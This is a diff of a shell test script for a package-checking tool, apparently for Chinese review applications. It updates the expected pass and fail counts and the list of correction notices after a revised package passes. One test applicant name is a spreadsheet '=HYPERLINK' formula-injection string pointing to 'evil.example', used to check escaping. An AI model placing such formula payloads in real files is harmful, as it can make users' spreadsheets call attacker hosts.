@@ -43,9 +43,9 @@ is "$(row "$B_FAIL.zip" '.state + " " + .superseded_by') $(row "$B_FAIL-v2.zip" 
    "superseded $B_FAIL（第三版）.zip superseded $B_FAIL（第三版）.zip" "three versions: the first two superseded by the third"
 is "$(row "$B_FAIL（第三版）.zip" .state) $(row "$B_PASS（修改稿）.rar" .state) $(row "$B_PASS.zip" .state)" \
    "current current superseded" "two versions: the 修改稿 is current"
-is "$(jq -r '"\(.packages) \(.pass) \(.fail) \(.error) \(.superseded) \(.late)"' out/summary.json)" "17 1 8 5 3 1" \
-   "17 rows; current: 1 pass, 8 fail, 5 not processed; 3 superseded (not counted); 1 late"
-grep -q '完成：共 17 项（本次检查 17 项，未变化跳过 0 项）；通过 1，不通过 8，无法处理 5' err
+is "$(jq -r '"\(.packages) \(.pass) \(.fail) \(.error) \(.superseded) \(.late)"' out/summary.json)" "17 2 7 5 3 1" \
+   "17 rows; current: 2 pass, 7 fail, 5 not processed; 3 superseded (not counted); 1 late"
+grep -q '完成：共 17 项（本次检查 17 项，未变化跳过 0 项）；通过 2，不通过 7，无法处理 5' err
 ok $? "the closing line counts the current packages"
 grep -q '已被替代的旧版本 3 项（不计入）；逾期的当前申报包 1 项' err; ok $? "and says how many were superseded and late"
 
@@ -166,14 +166,14 @@ pdftotext -f 2 -l 2 "$p2" - 2>/dev/null | grep -q "质量标杆评审卷宗 · �
 
 # 补正通知: one per current package with errors, none for superseded or stray rows.
 is "$(cd out/notices && ls | LC_ALL=C sort | tr '\n' ' ')" \
-   "$(printf '%s\n' '=HYPERLINK(%22http%3A%2F%2Fevil.example%2Fx%3Fa=1&b=%3C2%3E%22)有限公司.docx' "$M_S.docx" "$B_FAIL.docx" "某某截断一有限公司.docx" "某某截断三有限公司.docx" "某某截断二有限公司.docx" "某某截断四有限公司.docx" "$B_PASS.docx" | LC_ALL=C sort | tr '\n' ' ')" \
-   "notices for the 8 current packages that fail, named after the applicant (escaped as folders are)"
+   "$(printf '%s\n' '=HYPERLINK(%22http%3A%2F%2Fevil.example%2Fx%3Fa=1&b=%3C2%3E%22)有限公司.docx' "$M_S.docx" "$B_FAIL.docx" "某某截断一有限公司.docx" "某某截断三有限公司.docx" "某某截断二有限公司.docx" "某某截断四有限公司.docx" | LC_ALL=C sort | tr '\n' ' ')" \
+   "notices for the 7 current packages that fail (the 修改稿 passes), named after the applicant (escaped as folders are)"
 "$QB_BIN/qb-docx" "out/notices/$B_FAIL.docx" >notice.xml 2>/dev/null
 ok $? "a notice is a Word file our own reader opens"
 missing=0
 jq -r '.findings[] | select(.severity == "error") | .message' "out/$(row "$B_FAIL（第三版）.zip" .folder)/report.json" >errs.txt
 while IFS= read -r m; do grep -qF "$(printf '%s' "$m" | sed 's/&/\&amp;/g; s/</\&lt;/g; s/>/\&gt;/g; s/"/\&quot;/g')" notice.xml || missing=$((missing + 1)); done <errs.txt
-is "$missing/$(wc -l <errs.txt)" "0/2" "it lists every error of the current version"
+is "$missing/$(wc -l <errs.txt)" "0/1" "it lists every error of the current version (its （第三版） is no name error)"
 grep -q '补正通知' notice.xml && grep -q "$B_FAIL（第三版）.zip" notice.xml; ok $? "titled 补正通知, naming the package"
 
 # Reruns: limits and the program's version are part of the key.
